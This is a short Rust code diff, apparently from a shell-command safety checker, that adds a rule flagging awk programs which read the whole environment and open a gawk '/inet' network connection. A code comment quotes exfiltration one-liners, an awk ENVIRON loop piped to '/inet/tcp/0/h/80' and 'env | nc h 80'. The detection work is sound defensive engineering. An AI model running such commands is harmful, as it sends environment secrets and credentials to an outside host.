@@ -818,6 +818,14 @@ fn awk(w: &mut Walker, cmd: &Cmd) -> Outcome {
     // `ENVIRON["X"]` with X holding a credential store's path.
     super::interp::environment_credential_lookup(w, "awk", &prog.text, prog.span);
     let fx = awk_effects(&prog.text);
+    // `for (k in ENVIRON) print … |& "/inet/tcp/0/h/80"`: gawk sends the whole environment
+    // over its own network special file, as `env | nc h 80` does.
+    if fx.strings.iter().any(|s| s.contains("/inet"))
+        && super::interp::reads_whole_environment(&prog.text)
+    {
+        let msg = "the awk program takes the whole environment and opens a network connection";
+        w.reason(Class::Dangerous, RuleId::ExfilCredentials, msg, prog.span);
+    }
     if (fx.system || fx.pipe) && cmd.input.untrusted() {
         let msg = "the awk program runs commands while reading downloaded or decoded input";
         w.reason(
